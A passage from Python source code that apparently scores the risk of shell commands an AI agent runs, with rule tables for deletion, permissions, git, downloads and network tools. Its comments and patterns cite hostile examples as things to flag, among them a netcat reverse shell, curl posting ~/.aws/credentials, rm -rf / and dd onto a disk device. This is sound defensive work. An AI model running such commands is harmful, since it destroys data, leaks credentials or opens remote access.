    r"(?i)secret|token|passw|api_?key|private_?key|credential|access_?key|auth_?key|session_?key"
)
# Commands that only look at metadata: naming a key file there is not reading it.
METADATA = frozenset(_words("ls stat file du test [ find realpath readlink basename dirname"))
# Commands with their own rows about credential paths (deleting one is not reading it).
OWN_CREDENTIAL_ROWS = frozenset(_words("rm shred curl wget chmod chown tee touch truncate"))
# Directories whose programs are the system's own or the project's tool shims.
TRUSTED_BIN = re.compile(
    r"^(/usr/local/s?bin|/usr/s?bin|/s?bin|/opt/homebrew/s?bin|/opt/local/s?bin|/snap/bin|"
    r"/usr/libexec|~/\.local/bin|~/\.cargo/bin|~/go/bin|~/\.nvm/.*|~/\.pyenv/shims)/[^/]+$"
    r"|(^|/)(\.?venv|env|\.tox/[^/]+)/bin/[^/]+$|(^|/)node_modules/\.bin/[^/]+$"
    r"|^(\./)?(gradlew|mvnw)$"
)


_DELETERS = frozenset({"rm", "rmdir", "unlink", "shred", "wipe", "srm", "truncate", "mv", "dd"})


def _find_exec_deletes(c: _Cmd) -> bool:
    """`find ~ -exec rm {} +`: find -delete spelt with a deleting command."""
    return any(
        _canonical(command_name(c.args[i + 1])) in _DELETERS
        for i, a in enumerate(c.args[:-1])
        if a in ("-exec", "-execdir", "-ok", "-okdir")
    )


def _find_exec_read_only(c: _Cmd) -> bool:
    """`find … -exec grep …`: the command run per match only reads."""
    names = [
        _canonical(command_name(c.args[i + 1]))
        for i, a in enumerate(c.args[:-1])
        if a in ("-exec", "-execdir", "-ok", "-okdir")
    ]
    return bool(names) and all(n in READ_ONLY and n not in ("find", "env") for n in names)


def _dynamic_option(c: _Cmd) -> bool:
    return any(text.startswith("-") for text in c.dynamic_arg_texts())


def _after_module(c: _Cmd) -> str:
    module = _py_module(c)
    args = list(c.args)
    for index, word in enumerate(args):
        if word in ("-m", f"-m{module}") or word == module:
            rest = [a for a in args[index + 1 :] if a != module and not a.startswith("-")]
            return rest[0] if rest else ""
    return ""


def _uv_runs_check(c: _Cmd) -> bool:
    rest = [op for op in c.operands[1:] if not op.startswith("-")]
    return bool(rest) and rest[0] in ROUTINE and ROUTINE[rest[0]][0] <= 10


def _interactive_shell(c: _Cmd) -> bool:
    stdin_fed = any(ctx.startswith(("pipeline-after:", "wrapped-by:xargs")) for ctx in c.sc.context)
    return not stdin_fed and not c.sc.wraps and _script_operand(c) is None and not c.sc.redirects


# Options whose value a command writes or authenticates with, rather than reads and sends.
_NOT_READ = frozenset({"-o", "-out", "--output", "-O", "--output-document", "-keyout", "-f"})
_IDENTITY = frozenset({"-i", "--identity", "--key"})
_IDENTITY_USERS = frozenset({"ssh", "scp", "rsync", "sftp", "git"})


def _credential_candidates(c: _Cmd) -> Iterator[str]:
    """Every word that may name a file the command reads: operands, `--opt=PATH`, curl's
    `@PATH`, input redirects; not output files, and not `ssh -i KEY` (used, not sent)."""
    skip = _NOT_READ | (_IDENTITY if c.name in _IDENTITY_USERS else frozenset())
    words = [w for i, w in enumerate(c.args) if not (i and c.args[i - 1] in skip)]
    for word in (*words, *(r.target for r in c.sc.redirects if "<" in r.op)):
        yield word
        if "=" in word:
            yield word.split("=", 1)[1]
        if word.startswith("@"):
            yield word[1:]
    for _, value in c.sc.assignments:
        yield value


def _mentions_credential(c: _Cmd) -> bool:
    return any(_CREDENTIAL.search(c.env.absolute(w)) for w in _credential_candidates(c) if w)


def _network_substitution(c: _Cmd) -> bool:
    """A network command with `$(…)` in its arguments sends command output somewhere."""
    return c.name in NETWORK and any("$(" in t or "`" in t for t in c.dynamic_arg_texts())


def _upstream(c: _Cmd) -> tuple[str, ...]:
    for ctx in reversed(c.sc.context):
        if ctx.startswith("pipeline-after:"):
            return tuple(_canonical(n) for n in ctx.split(":", 1)[1].split(","))
    return ()


def _piped_into_interpreter(c: _Cmd) -> bool:
    return c.name in INTERPRETERS and bool(_upstream(c)) and _reads_program_from_stdin(c)


def _download_piped_into_interpreter(c: _Cmd) -> bool:
    return _piped_into_interpreter(c) and any(n in DOWNLOADERS for n in _upstream(c))


def _download_fed_to_interpreter(c: _Cmd) -> bool:
    """`bash <(curl …)`, `sh -c "$(curl …)"`, `eval "$(wget -O- …)"`: remote code runs."""
    if c.name not in DOWNLOADERS:
        return False
    for ctx in c.sc.context:
        kind, _, outer = ctx.partition(":")
        if (
            kind in ("substitution-in", "process-substitution-in")
            and _canonical(outer) in INTERPRETERS
        ):
            return True
    return False


def _program_path_class(c: _Cmd) -> str | None:
    """Where a program given by path lives, or None for a bare name or a trusted directory."""
    word = c.words[0] if c.words else ""
    if "/" not in word or ("dynamic-name" in c.sc.flags and c.words == c.sc.words):
        return None
    shown = _HOME_VAR.sub("~", word)
    if TRUSTED_BIN.search(shown) or TRUSTED_BIN.search(c.env.absolute(shown)):
        return None
    return c.classify(shown)


def _writes(*classes: str) -> Pred:
    """Some output redirection of the command targets a path in `classes`."""
    wanted = frozenset(classes)

    def check(c: _Cmd) -> bool:
        return any(
            c.classify(r.target) in wanted for r in c.sc.redirects if _is_write(r.op, r.target)
        )

    return check


def _is_write(op: str, target: str) -> bool:
    """Output redirections write files; 2>&1, >&2, 1>&- only duplicate descriptors."""
    if ">" not in op or op.endswith("(") or op.startswith("<<"):
        return False
    duplicates = "&" in op and op not in ("&>", "&>>") and (target.isdigit() or target == "-")
    return not duplicates


def _prints_secret(c: _Cmd) -> bool:
    """`echo $GITHUB_TOKEN`, `printenv AWS_SECRET_ACCESS_KEY`: the secret lands in logs."""
    if c.name == "printenv":
        return any(_SECRET_VAR.search(op) for op in c.operands)
    return c.name in ("echo", "printf") and any(_SECRET_VAR.search(v) for v in c.sc.variables)


def _dev_tcp(c: _Cmd) -> bool:
    return any(r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in c.sc.redirects)


_VARIABLE = re.compile(r"\$\{?[A-Za-z_]")


def _variables(c: _Cmd) -> bool:
    return any(_VARIABLE.search(text) for text in c.dynamic_arg_texts())


# --- the table ----------------------------------------------------------------------------------

# Commands that only read (files, the system, the repository) and print: score 0.
READ_ONLY = frozenset(
    _words("""
    ls ll dir vdir cat bat tac head tail less more wc grep rg ag ack fd locate stat file du df
    pwd echo printf which whereis type tree sort uniq cut jq yq diff cmp comm date printenv
    whoami id groups uname uptime ps pgrep top htop free nproc lscpu lsblk lsof lsmod tr rev nl
    paste join fold fmt column expand unexpand basename dirname realpath readlink seq true false
    : test [ sleep wait popd dirs md5sum sha1sum sha224sum sha256sum sha384sum sha512sum shasum
    cksum b2sum base64 base32 xxd hexdump od strings man help info whatis apropos locale tty
    arch cal bc dc expr getconf getent lsb_release sw_vers vmstat iostat mpstat netstat ss
    jobs read exit return break continue shift local declare typeset readonly getopts logname
    users who w last zcat zless zmore numfmt shuf iconv look cd set shopt export env hash
    git-lfs hostnamectl timedatectl nvidia-smi sensors ldd nm objdump readelf size file
    shellcheck hadolint yamllint markdownlint tokei cloc scc wc diffstat colordiff delta
    apt-cache dpkg-query rpm-q
    """)
)

# Routine development commands that run the project's own checks and builds: low scores.
# (These run project code, as every test does; the workspace is the agent's to work in.)
ROUTINE: dict[str, tuple[int, str]] = {
    # test runners and linters
    **dict.fromkeys(
        _words(
            "pytest py.test mypy pyright pylint flake8 pyflakes pycodestyle bandit coverage jest "
            "vitest mocha ava tap karma phpunit rspec eslint tslint stylelint golangci-lint "
            "staticcheck rubocop ctest"
        ),
        (5, "runs the project's tests or linters"),
    ),
    # compilers and build tools that write only build outputs inside the workspace
    **dict.fromkeys(
        _words(
            "tsc gcc g++ cc c++ clang clang++ rustc javac kotlinc swiftc zig cmake ninja meson "
            "bazel buck sbt ant scons"
        ),
        (10, "compiles or builds the project"),
    ),
    # formatters rewrite files in the workspace; version control undoes them
    **dict.fromkeys(
        _words(
            "black isort prettier gofmt goimports rustfmt clang-format autopep8 yapf shfmt stylua"
        ),
        (10, "formats files in the workspace"),
    ),
    "tox": (15, "runs tox (creates virtualenvs, installs packages into them)"),
    "nox": (15, "runs nox sessions (create virtualenvs)"),
    "pre-commit": (15, "runs pre-commit hooks"),
    "ping": (10, "sends ICMP pings"),
    "traceroute": (10, "traces a network route"),
    "whois": (10, "looks up a domain"),
    "dig": (10, "looks up DNS records"),
    "nslookup": (10, "looks up DNS records"),
    "host": (10, "looks up DNS records"),
    "ulimit": (10, "changes resource limits of this shell"),
    "umask": (10, "changes the default file mode of this shell"),
    "trap": (25, "sets a command to run on a signal"),
    "rmdir": (20, "removes empty directories"),
    "split": (20, "splits a file into new files"),
    "csplit": (20, "splits a file into new files"),
    "zip": (20, "writes a zip archive"),
    "unalias": (10, "removes an alias"),
    "ssh-keygen": (30, "creates or changes SSH keys"),
    "ssh-add": (40, "loads SSH keys into the agent"),
    "ssh-copy-id": (60, "installs an SSH key on a remote host"),
    "open": (40, "opens a file or application on the desktop"),
    "xdg-open": (40, "opens a file or application on the desktop"),
    "osascript": (60, "runs AppleScript (controls other applications)"),
    "nohup": (0, ""),
    "xargs": (0, ""),
    "time": (0, ""),
    "timeout": (0, ""),
    "nice": (0, ""),
    "exec": (15, "replaces the shell process"),
    "command": (0, ""),
    "builtin": (0, ""),
    "watch": (0, ""),
    "stdbuf": (0, ""),
    "setsid": (10, "starts a detached session"),
    "busybox": (10, "runs a busybox applet"),
    "chroot": (80, "runs a command in another root directory"),
    "strace": (30, "traces another program"),
    "ltrace": (30, "traces another program"),
    "gdb": (30, "runs a debugger"),
    "flock": (5, "runs a command under a file lock"),
}

_PIP_INSTALL = sub("install", "add", "sync", "update", "upgrade", "download", "inject", "create")
_ANY_INSTALL = sub(
    "install", "add", "i", "in", "reinstall", "upgrade", "update", "dist-upgrade",
    "full-upgrade", "get", "require", "tap",
)  # fmt: skip
_NO_DRY_RUN = no(opt("-n", "--dry-run"))
_TAR_DIR = ("-C", "--directory")
_WGET_OUT = ("-O", "--output-document", "-P", "--directory-prefix")
_EXEC_PRIMARIES = arg("-exec", "-execdir", "-ok", "-okdir")
_WRITE_PRIMARIES = arg("-fprint", "-fprint0", "-fprintf", "-fls")
_OUTSIDE_WRITE = (*NON_WORKSPACE_WRITE, SYSTEM, STARTUP)
_SYS = (ROOT, SYSTEM)
_BROAD_DELETE_ROOTS = target(ROOT, HOME, ANCESTOR, SYSTEM)
_IN_PLACE = any_of(opt("-i", "--in-place"), matches(r"^-[a-zA-Z]*i"))
_VERSION = opt("-v", "-V", "--version")
_PY_CHECKS = _py_module_in(
    "pytest", "unittest", "mypy", "ruff", "flake8", "pylint", "doctest", "coverage", "pyright"
)
_PY_HARMLESS = _py_module_in(
    "black", "isort", "json", "tox", "nox", "compileall", "py_compile", "pydoc", "timeit",
    "tabnanny", "pycodestyle", "build", "pip", "platform", "sysconfig", "site", "this",
)  # fmt: skip
_PIP_READ = sub(
    "list", "show", "freeze", "check", "help", "config", "index", "inspect", "search", "cache",
    "hash", "debug", "completion", "info", "env", "--version", "-V",
)  # fmt: skip
_NPM_RUNNERS = sub("exec", "x", "dlx", "create")
_GIT_PUSH = sub("push")
_GIT_FORCE = any_of(opt("-f", "--force"), matches(r"^\+"))
_GIT_BRANCH_DELETE = all_of(opt("-d", "--delete"), opt("-f", "--force"))
_GIT_PRUNE = any_of(
    all_of(sub("reflog"), sub2("expire", "delete")),
    sub("prune"),
    all_of(sub("gc"), matches(r"^--prune=now")),
)
_KILL_9 = any_of(
    matches(r"^-(9|KILL|SIGKILL)$"), all_of(arg("-s", "-n"), arg("9", "KILL", "SIGKILL"))
)
_SYSCTL_WRITE = any_of(opt("-w", "--write", "-p", "--load"), matches(r"="))
_FW_FLUSH = any_of(opt("-F", "--flush", "-X"), sub("flush", "disable", "reset"))
_FW_LIST = any_of(
    all_of(opt("-L", "--list", "-S"), no(opt("-F", "-X", "-A", "-D", "-I"))),
    sub("status", "list"),
    matches(r"^(--list-all|--state)$"),
)
_IP_CHANGE = any_of(sub2("set", "add", "del", "delete", "change", "replace", "flush"), sub("netns"))
_ACTIVATE = matches(r"(^|/)bin/activate(\.\w+)?$")
_SCHEDULED_LIST = all_of(opt("-l"), no(opt("-r")))
_CD_AWAY = any_of(target(*_NOT_WORKSPACE, TEMP), lambda c: not c.operands)


def _extracting(c: _Cmd) -> bool:
    return _tar_mode(c) == "x"


def _npm_script_check(c: _Cmd) -> bool:
    return bool(_CHECK_SCRIPT.match(_npm_script(c)))


def _bare_yarn(c: _Cmd) -> bool:
    return c.raw_name == "yarn" and not c.operands


def _routine_sub2(c: _Cmd) -> bool:
    return _is_routine_tool(c.sub2)


def _git_config_exec(c: _Cmd) -> bool:
    return any(_GIT_EXEC_KEY.fullmatch(o.lower()) for o in c.operands[1:2])


def _cloud_read_aws(c: _Cmd) -> bool:
    return _cloud_reads_only(c) or c.sub2.startswith(("describe", "list", "get", "ls"))


def _has_operands(c: _Cmd) -> bool:
    return bool(c.operands)


def _script(c: _Cmd) -> bool:
    return _script_operand(c) is not None


_GH_READ = any_of(sub2("list view status diff checks download watch"), sub("status search"))
_NPM_GLOBAL = any_of(
    all_of(any_of(sub(*_NPM_INSTALL), sub("link")), opt("-g --global")), sub("global")
)


def _pip_module_installs(c: _Cmd) -> bool:
    """`python -m pip install …`: the words after the module decide."""
    return _py_module(c) == "pip" and _after_module(c) in ("install", "uninstall", "download")


def _maven_checks(c: _Cmd) -> bool:
    safe = ("clean", "package", "validate", "compile", "test-compile")
    return all(_CHECK_SCRIPT.match(o) or o in safe for o in c.operands)


def _gradle_checks(c: _Cmd) -> bool:
    safe = ("clean", "assemble", "tasks", "dependencies")
    return all(_CHECK_SCRIPT.match(o) or o in safe for o in c.operands)


# fmt: off
# Files: deleting, moving, writing, permissions. Every row that holds counts; the command scores
# the highest of them (rows without a condition are defaults, see `Row`).
FILE_RULES: dict[str, tuple[Row, ...]] = {
    "rm": (  # rm, unlink
        Row(30, "deletes files"),  # default: a file in the workspace
        # rm -rf /, rm -rf /*: the whole machine
        Row(100, "rm -rf on the filesystem root", target(ROOT)),
        # only ever typed to delete /
        Row(100, "rm with --no-preserve-root", opt("--no-preserve-root")),
        # ~, $HOME, /home/me: everything the user owns
        Row(95, "rm -rf on the home directory", target(HOME)),
        # .., ../..: the workspace and its neighbours
        Row(95, "rm on a directory that contains the workspace", target(ANCESTOR)),
        # /etc, /usr, /var/log …: breaks or blinds the system
        Row(90, "rm on a system path", target(SYSTEM, DEVICE)),
        # keys, tokens, ~/.bashrc: lock-out or lost access
        Row(85, "deletes credentials or shell startup files", target(CREDENTIAL, STARTUP)),
        # ../other-project, /opt/x: somebody else's files
        Row(85, "rm -r outside the workspace", all_of(RECURSIVE, target(OUTSIDE))),
        # ~/.cache, ~/.config/x: recoverable, but not ours
        Row(70, "rm -r of configuration in the home directory", all_of(RECURSIVE, target(DOTFILE))),
        # one file outside the workspace
        Row(60, "rm outside the workspace", target(OUTSIDE, DOTFILE)),
        # /tmp/build-1: scratch space, possibly shared
        Row(50, "rm -r in a temporary directory", all_of(RECURSIVE, target(TEMP))),
        # rm -rf ., rm -rf *: the agent's whole work
        Row(75, "rm -r of the whole workspace", all_of(RECURSIVE, target(WORKSPACE_ALL))),
        # rm -rf src/*: broad, easy to get wrong
        Row(60, "rm -r with a glob", all_of(RECURSIVE, target(GLOB))),
        # rm -rf "$DIR/" with DIR empty is rm -rf /
        Row(70, "rm -r on paths known only at run time", all_of(RECURSIVE, target(DYNAMIC))),
        # xargs rm, find -exec rm: the file list comes from elsewhere
        Row(70, "rm -r on paths supplied at run time", all_of(RECURSIVE, GENERATED)),
        # rm $(cat list), xargs rm
        Row(45, "rm on paths known only at run time", any_of(target(DYNAMIC), GENERATED)),
        # rm -rf build/: a directory tree inside the workspace
        Row(40, "rm -r deletes a directory tree", RECURSIVE),
    ),
    "shred": (  # shred, wipe, srm
        Row(70, "shred destroys file contents beyond recovery"),  # default
        # shred /var/log/secure: destroys evidence and system files
        Row(90, "shred on a system path or device", target(ROOT, SYSTEM, DEVICE, HOME, ANCESTOR)),
    ),
    "find": (
        # deletes whatever matched: easy to match too much
        Row(50, "find -delete removes every match", arg("-delete")),
        # find ~ -delete, find / -delete
        Row(90, "find -delete over a broad path", all_of(arg("-delete"), _BROAD_DELETE_ROOTS)),
        # find ~ -type f -exec rm {} +: the same disaster, one rm per match
        Row(90, "find runs a deleting command over a broad path",
            all_of(_find_exec_deletes, _BROAD_DELETE_ROOTS)),
        # -exec cmd {} ;: the inner command is judged too; this is the floor
        Row(30, "find runs a command for every match",
            all_of(_EXEC_PRIMARIES, no(_find_exec_read_only))),
        # -fprint FILE writes files
        Row(40, "find writes files (-fprint/-fls)", _WRITE_PRIMARIES),
        # find . -${x}exec …: the action is only known at run time
        Row(50, "find with an action known only at run time", _dynamic_option),
    ),
    "chmod": (
        Row(15, "changes file permissions"),  # default: chmod +x script.sh
        # 777, o+w: anyone may change the files
        Row(40, "makes files world-writable", _world_writable),
        # chmod -R 777 /, ~ or .: opens everything up
        Row(85, "chmod -R 777 on a broad path",
            all_of(RECURSIVE, _world_writable, target(*_BROAD))),
        # chmod 777 /etc/passwd
        Row(90, "chmod on a system path", target(ROOT, SYSTEM, DEVICE)),
        # u+s, 4755: a program that runs as its owner (root)
        Row(85, "sets the setuid/setgid bit", _setuid),
        # chmod -R on the home directory or the whole workspace
        Row(70, "chmod -R on a broad path", all_of(RECURSIVE, target(*_BROAD))),
        # ../x, ~/.bashrc
        Row(50, "chmod outside the workspace", target(*NON_WORKSPACE_WRITE, STARTUP)),
        # chmod 644 ~/.ssh/id_rsa: others may read the key
        Row(60, "loosens permissions on credential files", all_of(target(CREDENTIAL), _loosens)),
    ),
    "chown": (  # chown, chgrp
        Row(45, "changes file ownership"),  # default: usually needs root anyway
        # chown -R me /, ~ or .
        Row(85, "chown -R on a broad path", all_of(RECURSIVE, target(*_BROAD))),
        # chown root /etc/x
        Row(90, "chown on a system path", target(ROOT, SYSTEM, DEVICE)),
        # other people's files
        Row(60, "chown outside the workspace", target(*NON_WORKSPACE_WRITE, CREDENTIAL, TEMP)),
    ),
    "dd": (
        Row(50, "dd copies raw data"),  # default: easy to point at the wrong place
        # of=/dev/sda: overwrites a disk
        Row(100, "dd writes to a disk device", value_of(("of=",), DEVICE)),
        # of=/etc/x, of=~/.bashrc
        Row(90, "dd writes into a system path", value_of(("of=",), *_SYS, STARTUP, CREDENTIAL)),
    ),
    # mkfs, mkfs.ext4, mke2fs, mkswap: erases a file system
    "mkfs": (Row(95, "formats a file system"),),
    # fdisk, parted, sfdisk, wipefs, blkdiscard: repartitions or wipes a disk
    "fdisk": (Row(90, "changes disk partitions"),),
    "diskutil": (
        Row(50, "changes disks"),  # default: mount, rename …
        # erase/partition/zero a disk
        Row(95, "erases or repartitions a disk", matches(r"(?i)^(erase|partition|zero|secure)")),
        # listing disks
        Row(0, "", sub("list info")),
    ),
    "truncate": (
        Row(30, "truncates files"),  # default: a file in the workspace
        # truncating logs or system files
        Row(90, "truncates a system file", target(*_SYS, DEVICE, STARTUP, CREDENTIAL)),
        # somebody else's file
        Row(60, "truncates files outside the workspace", target(*NON_WORKSPACE_WRITE)),
    ),
    "touch": (
        Row(25, "creates or modifies files"),  # default: new files are still changes
        # touch /etc/x
        Row(90, "creates files in a system directory", target(*_SYS)),
        # ~/.bashrc, ../x
        Row(60, "creates files outside the workspace", target(*NON_WORKSPACE_WRITE, STARTUP)),
    ),
    "mkdir": (
        Row(25, "creates directories"),  # default
        # mkdir /etc/x
        Row(80, "creates directories in a system location", target(*_SYS)),
        # ~/x, ../x
        Row(50, "creates directories outside the workspace", target(*NON_WORKSPACE_WRITE)),
    ),
    "cp": (
        Row(25, "copies files (may overwrite)"),  # default: inside the workspace
        # cp x /usr/bin/: plants a program
        Row(90, "copies into a system directory", dest(ROOT, SYSTEM, DEVICE)),
        # cp x ~/.bashrc
        Row(85, "overwrites a shell startup or credential file", dest(STARTUP, CREDENTIAL)),
        # cp x ../other/
        Row(60, "copies files outside the workspace", dest(*NON_WORKSPACE_WRITE)),
        # cp -r src /tmp/backup
        Row(30, "copies files into a temporary directory", dest(TEMP)),
    ),
    "mv": (
        Row(25, "moves files (may overwrite)"),  # default: inside the workspace
        # mv x /etc/, mv /etc/passwd x
        Row(90, "moves files into or out of a system directory",
            any_of(dest(*_SYS, DEVICE), target(*_SYS, HOME, ANCESTOR))),
        # mv x ~/.bashrc
        Row(85, "replaces a shell startup or credential file", dest(STARTUP, CREDENTIAL)),
        # mv x ../ or mv ~/.ssh/id_rsa x
        Row(60, "moves files outside the workspace",
            any_of(dest(*NON_WORKSPACE_WRITE), target(OUTSIDE, DOTFILE, CREDENTIAL))),
        # mv x /tmp/
        Row(30, "moves files into a temporary directory", dest(TEMP)),
    ),
    "ln": (
        Row(25, "creates links"),  # default
        # ln -s x /usr/bin/y
        Row(90, "creates links in a system directory", dest(*_SYS)),
        # ln -sf x ~/.bashrc
        Row(85, "replaces a startup or credential file with a link", dest(STARTUP, CREDENTIAL)),
        # ln -s x ~/bin/y
        Row(60, "creates links outside the workspace", dest(*NON_WORKSPACE_WRITE)),
    ),
    "install": (
        Row(30, "installs files"),  # default
        # install x /usr/local/bin/
        Row(90, "installs files into a system directory", dest(*_SYS)),
        # install x ~/bin/
        Row(60, "installs files outside the workspace", dest(*NON_WORKSPACE_WRITE, STARTUP)),
    ),
    "tee": (  # tee writes its file operands just like `>`
        Row(0, ""),  # default: tee to stdout or /dev/null only
        # tee out.txt
        Row(25, "writes files with tee", target(WORKSPACE, WORKSPACE_ALL, GLOB, DYNAMIC)),
        # tee /dev/sda
        Row(100, "tee writes to a disk device", target(DEVICE)),
        # tee /etc/hosts
        Row(90, "tee writes into a system path", target(*_SYS)),
        # tee -a ~/.bashrc
        Row(85, "tee writes to a shell startup or credential file", target(STARTUP, CREDENTIAL)),
        # tee ../x
        Row(60, "tee writes outside the workspace", target(*NON_WORKSPACE_WRITE)),
        # tee /tmp/x
        Row(30, "tee writes to a temporary directory", target(TEMP)),
    ),
    "sed": (
        Row(0, ""),  # default: prints
        # sed -i edits files
        Row(25, "sed -i edits files in place", _IN_PLACE),
        # sed -i … /etc/x
        Row(90, "sed -i edits a system file", all_of(_IN_PLACE, target(*_SYS, STARTUP))),
        # sed -i … ../x
        Row(60, "sed -i edits files outside the workspace",
            all_of(_IN_PLACE, target(*NON_WORKSPACE_WRITE))),
        # GNU sed's `e` command and s///e flag run shell commands
        Row(60, "sed script runs shell commands (e)", lambda c: c.arg_matching(_SED_EXEC)),
    ),
    "awk": (  # awk, gawk, mawk
        Row(0, ""),  # default: prints
        # system(), | getline, print > "file"
        Row(50, "awk program runs commands or writes files", _awk_program_runs),
        # gawk -i inplace
        Row(25, "awk edits files in place", matches(r"^inplace$")),
    ),
    # grep only reads, whatever its pattern says
    "grep": (Row(0, ""),),
    # ripgrep's --pre and -z start other programs per file
    "rg": (Row(50, "ripgrep runs external programs (--pre, -z)", _rg_runs_programs),),
    "patch": (
        Row(25, "patches files"),  # default
        # patch -d ../x, patch /etc/x
        Row(60, "patches files outside the workspace", target(*NON_WORKSPACE_WRITE, SYSTEM)),
    ),
    "tar": (
        # tar -t: lists
        Row(0, "", lambda c: _tar_mode(c) == "t"),
        # tar -c: writes one archive
        Row(20, "writes an archive", lambda c: _tar_mode(c) == "c"),
        # tar -x: may overwrite files
        Row(25, "extracts an archive", _extracting),
        # tar -xf a.tar -C /
        Row(90, "extracts into a system directory", all_of(_extracting, value_of(_TAR_DIR, *_SYS))),
        # tar -xf a.tar -C ~
        Row(60, "extracts outside the workspace",
            all_of(_extracting, value_of(_TAR_DIR, *NON_WORKSPACE_WRITE))),
        # -P keeps leading slashes: writes anywhere
        Row(60, "extracts absolute paths", all_of(_extracting, opt("-P --absolute-names"))),
    ),
    "unzip": (
        # unzip a.zip: may overwrite files
        Row(25, "extracts an archive", no(opt("-l -v -t -Z"))),
        # unzip a.zip -d /etc/
        Row(90, "extracts into a system directory", value_of(("-d",), *_SYS)),
        # unzip a.zip -d ~
        Row(60, "extracts outside the workspace", value_of(("-d",), *NON_WORKSPACE_WRITE)),
    ),
    "7z": (
        Row(20, "works on an archive"),  # default: a, u
        # 7z x: may overwrite files
        Row(25, "extracts an archive", sub("x e")),
        # 7z x a.7z -o/usr/bin/
        Row(90, "extracts into a system directory", value_of(("-o",), *_SYS)),
        # 7z x a.7z -o~
        Row(60, "extracts outside the workspace", value_of(("-o",), *NON_WORKSPACE_WRITE)),
        # 7z l: lists
        Row(0, "", sub("l")),
    ),
    # gzip, gunzip, xz, zstd, bzip2 replace the file they work on (unless -c/-l/-t)
    "gzip": (Row(25, "compresses or decompresses files in place", no(opt("-c -l -t"))),),
}

# Version control: local, recoverable changes are cheap; rewriting or publishing is not.
GIT_RULES: dict[str, tuple[Row, ...]] = {
    "git": (
        # add, commit, switch, fetch: recorded, undoable
        Row(15, "changes the local git repository", no(_git_lists)),
        # merges and rebases can conflict and rewrite the working tree
        Row(20, "git pull/merge/rebase rewrite the working tree",
            sub("pull merge rebase cherry-pick am")),
        # others see it; not undoable quietly
        Row(50, "git push publishes commits", _GIT_PUSH),
        # push -f / +ref: destroys others' commits on the remote
        Row(85, "git push --force rewrites remote history", all_of(_GIT_PUSH, _GIT_FORCE)),
        # safer force, still a rewrite
        Row(75, "git push --force-with-lease rewrites remote history",
            all_of(_GIT_PUSH, opt("--force-with-lease --force-if-includes"))),
        # push --delete, push origin :branch
        Row(75, "git push deletes a remote branch",
            all_of(_GIT_PUSH, any_of(opt("-d --delete --prune"), matches(r"^:")))),
        # push --mirror: makes the remote equal to the local copy
        Row(85, "git push --mirror overwrites the remote", all_of(_GIT_PUSH, opt("--mirror"))),
        # reset --hard: uncommitted work is gone for good
        Row(70, "git reset --hard discards uncommitted work",
            all_of(sub("reset"), opt("--hard --merge --keep"))),
        # soft/mixed reset: recoverable through the reflog
        Row(25, "git reset moves the branch", sub("reset")),
        # clean -f: untracked files are not in git, so not recoverable
        Row(65, "git clean -f deletes untracked files",
            all_of(sub("clean"), opt("-f --force"), _NO_DRY_RUN)),
        # clean -x: also .env, build caches, local config
        Row(70, "git clean -x also deletes ignored files",
            all_of(sub("clean"), opt("-x -X"), _NO_DRY_RUN)),
        # checkout -- file, restore file: uncommitted edits of those files are lost
        Row(45, "git checkout/restore discards uncommitted edits", _git_discards),
        # checkout -- ., restore .: all of them
        Row(65, "git checkout/restore of everything discards all uncommitted edits",
            _git_discards_all),
        # branch -D: unmerged commits become unreachable
        Row(60, "git branch -D deletes an unmerged branch",
            all_of(sub("branch"), any_of(opt("-D"), _GIT_BRANCH_DELETE))),
        # branch -d refuses unmerged branches
        Row(30, "git branch -d deletes a branch", all_of(sub("branch"), opt("-d --delete"))),
        # stash drop/clear: stashes are not in the reflog of a branch
        Row(45, "git stash drop/clear deletes stashed work",
            all_of(sub("stash"), sub2("drop clear"))),
        # git rm deletes the files too
        Row(30, "git rm deletes files", sub("rm")),
        # filter-branch/filter-repo: every commit changes
        Row(70, "rewrites the whole history", sub("filter-branch filter-repo replace")),
        # makes unreachable commits unrecoverable
        Row(60, "expires the reflog or prunes commits", _GIT_PRUNE),
        # update-ref moves branches without safety checks
        Row(40, "changes refs directly", sub("update-ref symbolic-ref")),
        # git -c core.sshCommand=…, -c alias.x=!…: runs an arbitrary program
        Row(60, "git configuration that runs a program", _git_runs_program),
        # git config core.hooksPath …: runs a program later
        Row(50, "sets git configuration that runs a program",
            all_of(sub("config"), _git_config_exec)),
        # --global/--system: outside the workspace
        Row(40, "changes global git configuration",
            all_of(sub("config"), opt("--global --system"), no(_git_lists))),
        # remote add/set-url: where pushes go
        Row(25, "changes where git pushes and fetches",
            all_of(sub("remote"), sub2("add set-url remove rm rename"))),
    ),
    "gh": (
        Row(30, "calls the GitHub API"),  # default
        # pr list, issue view …
        Row(5, "reads from GitHub",
            _GH_READ),
        # repo delete/archive/transfer
        Row(70, "deletes or rewrites on GitHub", sub2("delete archive transfer rename edit")),
        # gh api -X POST …
        Row(60, "calls the GitHub API directly",
            all_of(sub("api"), opt("-X --method -f -F --field --raw-field"))),
        # pr merge/close/create, issue comment: visible to others
        Row(40, "merges or closes on GitHub", sub2("merge close create comment review")),
    ),
}

# The network: downloading is a look outwards, uploading can leak.
NETWORK_RULES: dict[str, tuple[Row, ...]] = {
    "curl": (  # curl, httpie, xh
        # downloads: what comes back may be used later
        Row(30, "downloads from the network", no(_local_only)),
        # a dev server on localhost
        Row(10, "talks to a local server", _local_only),
        # -d, -F, -T, -X POST: sends data out
        Row(60, "uploads data over the network (POST/PUT/upload)", _uploads),
        # -d @~/.aws/credentials
        Row(95, "sends a credential file over the network", _mentions_credential),
        # -o ~/.bashrc, -o /usr/local/bin/x
        Row(60, "saves a download outside the workspace",
            value_of(("-o", "--output"), *_OUTSIDE_WRITE)),
    ),
    "wget": (  # wget, fetch, aria2c
        Row(30, "downloads from the network", no(_local_only)),  # as curl
        Row(10, "talks to a local server", _local_only),  # as curl
        Row(60, "uploads data over the network (POST)", _uploads),  # --post-data/--post-file
        Row(95, "sends a credential file over the network", _mentions_credential),
        Row(60, "saves a download outside the workspace", value_of(_WGET_OUT, *_OUTSIDE_WRITE)),
    ),
    "nc": (  # nc, ncat, netcat
        Row(50, "opens a raw network connection"),  # default: data goes anywhere
        # nc -e /bin/sh host port: a reverse shell
        Row(90, "netcat runs a program for the remote side (reverse shell)",
            opt("-e -c --exec --sh-exec --lua-exec")),
    ),
    "socat": (
        Row(50, "opens a raw network connection"),  # default
        # EXEC:/bin/sh: a shell on a socket
        Row(90, "socat connects a shell to the network", matches(r"(?i)^(exec|system):")),
    ),
    # interactive remote sessions
    "telnet": (Row(50, "opens a telnet connection"),),
    # ftp, tftp, lftp: file transfer in the clear
    "ftp": (Row(50, "transfers files by FTP"),),
